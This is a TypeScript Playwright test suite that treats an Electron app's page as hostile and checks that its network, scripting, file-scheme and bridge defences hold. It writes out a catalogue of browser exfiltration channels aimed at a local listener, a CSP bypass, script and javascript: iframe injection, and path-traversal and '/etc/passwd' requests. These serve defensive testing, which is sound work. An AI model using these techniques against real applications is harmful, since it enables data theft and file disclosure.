// The window with a page that somebody else has got hold of: any script in the page's own world, without and with the
// content security policy in its way. No request leaves the machine, and the bridge gives away no file.
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { createServer as createHttpServer } from 'node:http';
import { createServer, type AddressInfo, type Socket } from 'node:net';
import { networkInterfaces } from 'node:os';
import { createSocket } from 'node:dgram';
import { join } from 'node:path';
import type { Page } from '@playwright/test';
import { onElectron } from '../launch.ts';
import { Frame } from '../pages/frame.ts';
import { expect, test as base, type Window } from './test.ts';

/** As `open`; but what these pages do is told on their console. */
const test = base.extend<{ readonly start: () => Promise<Window> }>({
  start: async ({ launch, home }, use) => {
    await use(async () => {
      const app = await launch({ home });
      await expect(app.page.getByRole('main')).toBeVisible();
      return { app, frame: new Frame(app.page) };
    });
  },
});

/** Somebody outside, and what reached them. */
type Outside = { readonly host: string; readonly port: number; readonly heard: string[]; close(): void };

async function listen(): Promise<Outside> {
  const addresses = Object.values(networkInterfaces()).flatMap((list) => list ?? []);
  const host = addresses.find(({ internal, family }) => !internal && family === 'IPv4')?.address ?? '127.0.0.1';
  const heard: string[] = [];
  const sockets = new Set<Socket>();
  const tcp = createServer((socket) => {
    sockets.add(socket);
    socket.on('error', () => undefined);
    // browsers open connections beforehand, and say nothing on them
    socket.on('data', () => heard.push('TCP'));
  });
  await new Promise<void>((resolve) => tcp.listen(0, host, resolve));
  const { port } = tcp.address() as AddressInfo;
  const udp = createSocket('udp4').on('message', () => heard.push('UDP'));
  await new Promise<void>((resolve) => udp.bind(port, host, resolve));
  return {
    host,
    port,
    heard,
    close: () => {
      for (const socket of sockets) socket.destroy();
      tcp.close();
      udp.close();
    },
  };
}

/** Everything that a script can send by. */
async function sendOut(
  page: Page,
  { host, port }: Outside,
  scheme: 'http' | 'https',
  withSockets: boolean,
): Promise<void> {
  await page.evaluate(
    async ([name, number, web, sockets]) => {
      const url = `${web}://${name}:${number}/secret`;
      const attempts: (() => unknown)[] = [
        () => fetch(url, { mode: 'no-cors' }),
        () => navigator.sendBeacon(url, 'secret'),
        () => (new Image().src = url),
        () => new EventSource(url),
        () => import(/* @vite-ignore */ url),
        () => window.open(url),
        () => (location.href = url),
        () =>
          document.body.insertAdjacentHTML(
            'beforeend',
            `<iframe src="${url}"></iframe><object data="${url}"></object>`,
          ),
        () =>
          document.head.insertAdjacentHTML(
            'beforeend',
            `<link rel="prefetch" href="${url}"><link rel="stylesheet" href="${url}">`,
          ),
        () => {
          const form = Object.assign(document.createElement('form'), { action: url, method: 'post' });
          document.body.append(form);
          form.submit();
        },
        async () => {
          const peer = new RTCPeerConnection({
            iceServers: [
              { urls: `stun:${name}:${number}` },
              { urls: `turn:${name}:${number}?transport=tcp`, username: 'a', credential: 'b' },
            ],
          });
          peer.createDataChannel('secret');
          await peer.setLocalDescription(await peer.createOffer());
        },
        ...(sockets ? [() => new WebSocket(`ws://${name}:${number}/secret`)] : []),
      ];
      for (const attempt of attempts) {
        try {
          await Promise.race([attempt(), new Promise((resolve) => setTimeout(resolve, 500))]);
        } catch {
          // refused at once
        }
      }
      await new Promise((resolve) => setTimeout(resolve, 1000));
    },
    [host, port, scheme, withSockets] as const,
  );
}

test('a script in the page reaches no network', async ({ start }) => {
  const outside = await listen();
  try {
    const { app, frame } = await start();
    const { page } = app;
    const address = page.url();
    await sendOut(page, outside, 'http', true);
    expect(outside.heard).toEqual([]);

    // were there no policy, main would still refuse; that the double has no network proves nothing
    const session = await page.context().newCDPSession(page);
    await session.send('Page.setBypassCSP', { enabled: true });
    await page.reload();
    await frame.expectScreen('new');
    // the double cannot ask about sockets, and its browser opens connections beforehand
    await sendOut(page, outside, 'https', onElectron);
    if (onElectron) expect(outside.heard).toEqual([]);
    else expect(app.logs()).toContainEqual(expect.stringContaining('main cancelled a request to https://'));
    expect(app.logs().filter((line) => line.startsWith('refused a request'))).toEqual([]);
    expect(page.url()).toBe(address);
    expect(page.context().pages()).toHaveLength(1);
  } finally {
    outside.close();
  }
});

test('the page holds no script and no frame of others', async ({ start }) => {
  const { app } = await start();
  const seen = await app.page.evaluate(async () => {
    const run = (code: string): unknown => {
      try {
        // oxlint-disable-next-line no-eval -- what the page's policy must refuse
        return (0, eval)(code);
      } catch (error) {
        return error instanceof Error ? error.name : 'not an error';
      }
    };
    document.body.insertAdjacentHTML('beforeend', '<img src="x" onerror="window.injected = true">');
    const script = document.createElement('script');
    script.textContent = 'window.injected = true';
    document.head.append(script);
    const frames = ['data:text/html,<p>x', location.href, 'javascript:parent.injected = true'].map((src) => {
      const frame = document.createElement('iframe');
      frame.src = src;
      document.body.append(frame);
      return frame;
    });
    await new Promise((resolve) => setTimeout(resolve, 500));
    return {
      evaluated: run('1'),
      injected: 'injected' in window,
      bridges: frames.map((frame) => {
        try {
          return typeof Reflect.get(frame.contentWindow ?? {}, 'winnow');
        } catch {
          return 'undefined';
        }
      }),
      node: ['require', 'process', 'module', 'Buffer'].filter((name) => name in window),
    };
  });
  expect(seen).toEqual({
    evaluated: 'EvalError',
    injected: false,
    bridges: ['undefined', 'undefined', 'undefined'],
    node: [],
  });
});

test('the app’s scheme gives out the page’s files only', async ({ start }) => {
  const { app } = await start();
  const session = await app.page.context().newCDPSession(app.page);
  await session.send('Page.setBypassCSP', { enabled: true });
  await app.page.reload();
  const answers = await app.page.evaluate(async () => {
    const paths = [
      '/../package.json',
      '/..%2f..%2fpackage.json',
      '/%2e%2e%2f%2e%2e%2fLICENSE',
      '/%',
      '/%00.html',
      '/etc/passwd',
      '/..%5c..%5cpackage.json',
      '/preload/preload.cjs',
      '/index.html/../../preload/preload.cjs',
    ];
    const statuses = await Promise.all(
      paths.map(async (path) =>
        fetch(path).then(
          ({ status }) => status,
          () => 'failed',
        ),
      ),
    );
    const file = await fetch('file:///etc/passwd').then(
      ({ status }) => status,
      () => 'failed',
    );
    return { statuses, file, posted: (await fetch('/index.html', { method: 'POST' })).status };
  });
  expect(answers.statuses.filter((status) => status !== 403 && status !== 404)).toEqual([]);
  expect(answers).toMatchObject({ file: 'failed', posted: 405 });
  expect(app.logs().filter((line) => line.includes('Error occurred in handler'))).toEqual([]);
});

test('downloads of anything but what the page made are refused', async ({ start }) => {
  const outside = createHttpServer((_request, response) => response.end('x'));
  await new Promise<void>((resolve) => outside.listen(0, '127.0.0.1', resolve));
  const { app } = await start();
  await app.page.evaluate(
    (port) => {
      for (const href of ['index.html', `http://127.0.0.1:${port}/a.exe`, 'data:text/plain,x']) {
        Object.assign(document.createElement('a'), { href, download: 'x.txt' }).click();
      }
    },
    (outside.address() as AddressInfo).port,
  );
  await app.page.waitForTimeout(500);
  // the double would report one that is neither refused nor saved
  await app.dispose();
  outside.close();
});

// calls of any kind: test/integration/compromised-page.test.ts
test('the bridge, asked for anything, gives away no file that nobody handed over', async ({ start, home }) => {
  const secret = 'canary-5b20';
  const folder = join(home, 'secrets');
  mkdirSync(folder, { recursive: true });
  const paths = ['a.txt', 'a.jsonl', 'a.gguf'].map((name) => join(folder, name));
  for (const path of paths) writeFileSync(path, secret);
  const { app } = await start();
  const statuses = await app.page.evaluate(async (files) => {
    type InPage = {
      post(message: unknown): void;
      grantFiles(files: unknown): Promise<unknown[]>;
      pickFiles(purpose: unknown): Promise<unknown>;
      pickTarget(purpose: unknown, name: unknown): Promise<unknown>;
    };
    const bridge = Reflect.get(window, 'winnow') as InPage;
    for (const junk of [null, 1, {}, [], 'x', '{', 'x'.repeat(1 << 24), { kind: 'call', id: 1 }]) bridge.post(junk);
    const made = files.map((path) => new File(['x'], path));
    const refusals = await Promise.allSettled([
      bridge.grantFiles(made).then((grants) => {
        if (grants.length > 0) throw new Error('granted');
        return 'none';
      }),
      bridge.pickFiles('shell'),
      bridge.pickTarget('choice', '../../a.json'),
      bridge.pickTarget('choice', 'a.sh'),
      bridge.pickTarget('__proto__', 'a.json'),
    ]);
    return refusals.map(({ status }) => status);
  }, paths);
  expect(statuses).toEqual(['fulfilled', 'rejected', 'rejected', 'rejected', 'rejected']);
  expect(await app.dialogs()).toEqual([]);
  expect(paths.map((path) => readFileSync(path, 'utf8'))).toEqual(paths.map(() => secret));
});
